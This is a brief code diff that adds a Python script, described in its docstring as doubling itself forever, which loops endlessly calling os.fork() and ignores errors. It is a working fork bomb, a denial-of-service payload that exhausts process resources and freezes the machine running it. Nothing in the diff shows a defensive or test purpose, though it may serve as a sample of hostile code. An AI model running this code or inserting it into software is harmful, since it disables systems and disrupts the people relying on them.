@@ -1,0 +1,10 @@
+"""Doubles itself for ever."""
+
+# mypy: ignore-errors
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
